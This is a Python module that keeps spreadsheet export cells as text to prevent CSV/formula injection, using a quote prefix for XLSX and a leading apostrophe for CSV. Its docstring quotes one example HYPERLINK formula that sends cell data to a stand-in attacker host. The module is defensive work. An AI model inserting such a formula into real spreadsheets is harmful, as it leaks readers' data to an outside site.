"""Spreadsheet cells that stay text: no content becomes a formula in a download or an export (CSV injection).

A spreadsheet program reads a cell that begins with = + - @ (or a tab or carriage return, which some strip
first) as a formula: `=HYPERLINK("https://evil.example/?d="&A1,"x")` in a project title would send a reader's
other cells to another site when clicked. Full-width ＝ ＋ － ＠ are treated the same, for spreadsheets that
convert them. Numbers, dates and amounts are never text here, so an amount is never changed.

- XLSX: such a cell is written as a string with Excel's "quote prefix" style — it shows the text as written,
  keeps it text when edited, and reads back unchanged (`gongshi import` sees the same value).
- CSV has no types: such a cell gets a leading apostrophe ', the convention spreadsheets hide and OWASP
  recommends. The data page says so; the JSON files carry the text unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CSV_GUARD = "'"


def formula_like(value: Any) -> bool:
    """True for text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_text(value: Any) -> Any:
    """A CSV field: text that would be read as a formula gets a leading apostrophe; anything else unchanged."""
    return CSV_GUARD + value if formula_like(value) else value


def keep_as_text(cells: Iterable[Any]) -> None:
    """After openpyxl has been given a row: every text cell stays a string (openpyxl makes text beginning
    with = a formula), and formula-like text gets the quote prefix, so that Excel never evaluates it."""
    for cell in cells:
        if isinstance(cell.value, str):
            cell.data_type = "s"
            if formula_like(cell.value):
                cell.quotePrefix = True


def append_row(sheet: Worksheet, values: Iterable[Any]) -> list[Cell]:
    """Append a row and return its cells. `sheet[sheet.max_row]` would scan every cell of the sheet for its
    size on each call, which makes a sheet of N rows cost N² (minutes at 10,000 projects)."""
    cells = [Cell(sheet, value=value) for value in values]
    sheet.append(cells)
    return cells
